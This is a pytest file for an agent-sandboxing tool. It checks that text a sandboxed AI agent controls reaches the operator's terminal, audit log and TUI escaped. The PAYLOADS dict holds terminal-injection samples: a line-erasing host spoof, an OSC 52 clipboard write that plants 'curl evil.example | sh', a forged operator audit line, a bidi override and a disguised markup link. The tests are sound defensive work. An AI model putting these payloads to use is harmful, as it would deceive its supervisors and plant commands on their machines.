"""What a bottled agent wrote reaches the operator's terminal escaped (issue 10, §2).

Each payload is fed through what the agent controls (a proposal's host and
reason, an egress request's host and path, a hook's tool name and input) into
the real queue and audit log (the hooks through the supervise server's own
endpoints), then read back through the real commands (``bottle audit`` in a
subprocess; ``bottle proposals`` in-process, as it asks the backends which
bottles exist) and the real TUI under Textual's pilot: nothing that drives a
terminal may arrive, and the escaped form must be visible. ``--json`` keeps
the values exact.
"""

import asyncio
import json
from contextlib import ExitStack
from types import SimpleNamespace

import httpx2
import pytest
import typer
from textual.widgets import Input, Label, RichLog
from typer.testing import CliRunner

from bottle import hookimpl
from bottle_supervise import desk as supervise_ops
from bottle.display import terminal_safe
from bottle_sidecar.audit import AuditLog, read_events
from bottle_supervise_sidecar.proposals import Queue
from bottle_supervise_sidecar.server import Supervisor, build_app
from bottle.sidecar.runtime import SERVICE_DIED, Sidecar, audit_path
from bottle_supervise.desk import QUEUE_FILE, prepare_queue
from bottle_supervise.tui import CELL, Prompt, SuperviseApp
from test_supervise_tui import rows, settle, text_of

PAYLOADS = {
    "cr-erase-line": "evil.example\r\x1b[2Kpypi.org",  # reads as a request for pypi.org
    "screen-clear": "\x1b[2J\x1b[H",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc-title": "\x1b]0;title\x07\x1b]2;title\x1b\\",
    "forged-line": "ok\n2030-01-01 00:00:00.000 operator  rule-added evil.example  bottle egress",
    "bidi-override": "\u202egro.ipyp\u202c",
    "c1-csi": "\x9b2J\x9b0m",
    "console-markup": "[/] [b red]URGENT[/b red] [link=https://evil.example]pypi.org[/link]",  # shown as written
}
SLUG = "slug-1"


def assert_terminal_safe(shown: str, lines: int | None = None) -> None:
    """*shown* holds no character that drives a terminal: only the line breaks
    its writer made (*lines* of them, when given) and printable text."""
    if lines is not None:
        assert shown.count("\n") == lines, shown
    for line in shown.split("\n"):
        assert line.isprintable(), ascii(line)


# --- the function ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "shown"), [
    ("pypi.org", "pypi.org"),
    ("naïve café …", "naïve café …"),
    ("a\nb\tc\rd", r"a\nb\tc\rd"),
    ("\x1b[2J\x07\x7f", r"\x1b[2J\x07\x7f"),
    ("\x9b2J\x85", r"\x9b2J\x85"),
    ("\u202e\u2066\u061c\u200e", r"\u202e\u2066\u061c\u200e"),
    ("zero\u200bwidth\u2060\ufeff\u00ad", r"zero\u200bwidth\u2060\ufeff\xad"),
    ("line\u2028para\u2029", r"line\u2028para\u2029"),
    ("no\u00a0break", r"no\xa0break"),
    ("tag\U000e0041\U000e007f", r"tag\U000e0041\U000e007f"),
    ("filler\u3164\u115f", r"filler\u3164\u115f"),
    ("lone \ud800", r"lone \ud800"),
    (r"C:\x1b is text", r"C:\\x1b is text"),
])
def test_what_is_not_printable_is_shown_as_its_escape(text, shown):
    assert terminal_safe(text) == shown


def test_different_texts_never_look_the_same():
    """The backslash is escaped too: a literal ``\\x1b`` cannot pass for an escape character."""
    assert terminal_safe("\x1b") != terminal_safe(r"\x1b")
    for payload in PAYLOADS.values():
        assert terminal_safe(payload).encode().decode("unicode_escape") == payload


# --- the CLI, in a subprocess -------------------------------------------------------------------------------------


@pytest.fixture
def queue(home):
    return Queue(prepare_queue(home.state_root) / QUEUE_FILE)


@pytest.fixture
def bottle_proposals(monkeypatch):
    """``bottle_proposals(*args)``: the real command's exit code and stdout,
    with SLUG as the one bottle the backends list (the queue is real)."""
    from bottle.cli import manage
    from bottle_supervise.commands import proposals

    monkeypatch.setattr(manage, "all_bottles", lambda: [(None, SimpleNamespace(slug=SLUG, status="running"))])
    app = typer.Typer()
    app.command()(proposals)

    def run(*args: str) -> tuple[int, str]:
        result = CliRunner().invoke(app, args)
        return result.exit_code, result.stdout

    return run


def test_bottle_proposals_escapes_hosts_and_reasons(queue, bottle_proposals):
    for payload in PAYLOADS.values():
        queue.propose(SLUG, "coder", "egress", payload, payload)
        queue.propose(SLUG, "coder", "capability", payload, "")

    code, out = bottle_proposals()

    assert code == 0, out
    assert_terminal_safe(out, lines=1 + 2 * len(PAYLOADS))  # the header, a line per proposal
    lines = out.splitlines()[1:]
    for egress, capability, payload in zip(lines[::2], lines[1::2], PAYLOADS.values()):
        assert egress.endswith(f"{terminal_safe(payload)}  ({terminal_safe(payload)})")
        assert capability.endswith(f"capability {terminal_safe(payload)}")


def test_bottle_proposals_json_keeps_the_values_exact_and_the_output_safe(queue, bottle_proposals):
    for payload in PAYLOADS.values():
        queue.propose(SLUG, "coder", "egress", payload, payload)

    code, out = bottle_proposals("--json")

    assert code == 0, out
    assert out.isascii()
    assert [(p["what"], p["reason"]) for p in json.loads(out)] == [(p, p) for p in PAYLOADS.values()]


@pytest.fixture
def audit_log(home):
    """The bottle's audit log, with a blocked egress request and the supervise
    server's rows for a tool call and its result, for each payload."""
    path = audit_path(home.state_root / SLUG)
    path.parent.mkdir(parents=True)
    log = AuditLog(path, SLUG)
    app = build_app(Supervisor(Queue(path.parent / "queue.sqlite"), log, SLUG, "coder", 1, []))

    async def record():
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(app), base_url="http://sidecar") as hooks:
            for payload in PAYLOADS.values():
                log.record("egress", "blocked", method="GET", host=payload, port=443, path=f"/{payload}",
                           reason="host not allowed", detail={"check": "allowlist"})
                event = {"session_id": "s", "tool_name": payload, "tool_input": {"command": payload}}
                for hook in ("pre-tool-use", "post-tool-use"):
                    assert (await hooks.post(f"/hooks/{hook}", json=event)).status_code == 200

    asyncio.run(record())
    log.close()
    return path


def test_bottle_audit_escapes_hosts_paths_tool_names_and_inputs(run_bottle, audit_log):
    code, out, err = run_bottle("audit", SLUG)

    assert code == 0, err
    assert_terminal_safe(out, lines=3 * len(PAYLOADS))  # a line per event
    lines = out.splitlines()
    for index, payload in enumerate(PAYLOADS.values()):
        shown = terminal_safe(payload)
        egress, tool_call, tool_result = lines[3 * index: 3 * index + 3]
        assert f"GET {shown}:443/{shown}  host not allowed" in egress
        assert f"{shown}: {terminal_safe(' '.join(payload.split()))}" in tool_call  # the server's summary
        assert shown in tool_result


def test_bottle_audit_json_keeps_the_values_exact_and_the_output_safe(run_bottle, audit_log):
    code, out, err = run_bottle("audit", SLUG, "--json")

    assert code == 0, err
    assert out.isascii()
    assert json.loads(out) == read_events(audit_log)


class GrantAsGiven:
    """A plugin granting every proposal as it is given, whatever it holds (a third party's might), after
    doing ``then`` (nothing, unless a test says): what comes back must still reach the terminal escaped."""

    then = staticmethod(lambda: None)

    @hookimpl(optionalhook=True)
    def bottle_supervise_grant(self, bottle, kind, value):
        self.then()
        return value


@pytest.fixture
def as_given(monkeypatch):
    """The process's plugins, with GrantAsGiven granting in egress's place (``bottle answer`` uses them)."""
    from bottle.cli import common
    from bottle.plugins import load_plugins

    plugins = load_plugins(disabled=["egress"])
    grant = GrantAsGiven()
    plugins.manager.register(grant, name="as-given")
    monkeypatch.setattr(common, "loaded_plugins", lambda: plugins)
    return SimpleNamespace(plugins=plugins, grant=grant)


def test_bottle_answer_escapes_the_host_it_granted(home, queue, as_given, capsys):
    from bottle_supervise.commands import answer

    payload = PAYLOADS["cr-erase-line"]
    answer(queue.propose(SLUG, "coder", "egress", payload, "docs"), approve=True, reject=False, note="", host=None)

    out = capsys.readouterr().out
    assert_terminal_safe(out, lines=1)
    assert out.endswith(f"may now reach {terminal_safe(payload)}\n")


def test_an_expired_answer_escapes_the_host_that_stays_allowed(home, queue, as_given, usage_error):
    payload = PAYLOADS["osc-title"]
    proposal_id = queue.propose(SLUG, "coder", "egress", payload, "docs")
    as_given.grant.then = lambda: queue.answer(proposal_id, "expired", "too late")

    message = usage_error(lambda: supervise_ops.answer(home.state_root, proposal_id, "approve",
                                                       plugins=as_given.plugins), "expired",
                          f"{terminal_safe(payload)} stays allowed")
    assert_terminal_safe(message, lines=0)


def test_a_dead_sidecars_last_words_are_escaped():
    """They end in an error on the operator's terminal, and the daemons log what the agent sent."""
    payload = PAYLOADS["osc52-clipboard"]

    class Exited:
        status = "exited"

        def reload(self):
            pass

        def logs(self, tail):
            return f"{SERVICE_DIED}egress exited with code 1\nbad server name {payload}\n".encode()

    sidecar = Sidecar(container=Exited(), stack=ExitStack(), watcher=SimpleNamespace(died=None))

    reason = sidecar.failure()

    assert reason == f"{SERVICE_DIED}egress exited with code 1\nbad server name {terminal_safe(payload)}\n"


# --- the TUI, under Textual's pilot -------------------------------------------------------------------------------


def test_the_tui_escapes_the_table_details_prompt_tail_and_notices(home, queue, audit_log, as_given, monkeypatch):
    for payload in PAYLOADS.values():
        queue.propose(SLUG, "coder", "egress", payload, payload)

    async def scenario():
        app = SuperviseApp(home.state_root, as_given.plugins)
        notices = []
        monkeypatch.setattr(app, "notify", lambda message, **options: notices.append(message))
        async with app.run_test(size=(200, 50)) as pilot:
            await pilot.pause()
            for (what, reason), payload in zip((row[5:] for row in rows(app)), PAYLOADS.values()):
                shown = terminal_safe(payload)  # cut to the column; the details show it whole
                assert what == reason == (shown if len(shown) <= CELL else shown[:CELL - 1] + "…")
            tail = text_of(app.query_one(RichLog))
            assert_terminal_safe(tail, lines=3 * len(PAYLOADS) - 1)
            for payload in PAYLOADS.values():
                assert f"GET {terminal_safe(payload)}:443/{terminal_safe(payload)} host not allowed" in tail

            for payload in PAYLOADS.values():
                details = str(app.query_one("#details").render())
                assert_terminal_safe(details, lines=2)  # what, reason, the bottle's usage
                assert details.endswith(f": {terminal_safe(payload)}\nreason: {terminal_safe(payload)}\nusage: 0 tokens; no budget")

                await pilot.press("m")
                assert isinstance(app.screen, Prompt)
                question, value = str(app.screen.query_one(Label).render()), app.screen.query_one(Input).value
                assert question == f"Allow which host instead of {terminal_safe(payload)}?"
                assert value == terminal_safe(payload)
                await pilot.press("escape")
                await pilot.press("down")

            assert_terminal_safe(app.export_screenshot())
            await pilot.press("a")  # the last one
            await settle(app, pilot)
        return notices

    notices = asyncio.run(scenario())
    last = list(PAYLOADS.values())[-1]
    assert notices[-1].endswith(f" approved: {terminal_safe(last)}")
    assert_terminal_safe(notices[-1], lines=0)


def test_the_run_summary_escapes_the_branches_the_agent_named(home, audit_log, plugins):
    """Ref names are the agent's: git refuses ASCII controls in them, but C1 and bidi characters pass."""
    from bottle.launch import run_summary

    payload = PAYLOADS["bidi-override"] + PAYLOADS["c1-csi"]
    log = AuditLog(audit_log, SLUG)
    log.record("git", "allowed", method="push", path=f"refs/heads/bottle/{payload}", detail={"new": "1" * 40})
    log.close()
    git = SimpleNamespace(upstream="/srv/app.git")
    plan = SimpleNamespace(state_dir=home.state_root / SLUG, slug=SLUG, section=lambda kind: git)

    lines = run_summary(plan, plugins)

    assert f"pushed bottle/{terminal_safe(payload)} to /srv/app.git" in lines
    assert_terminal_safe("\n".join(lines), lines=len(lines) - 1)
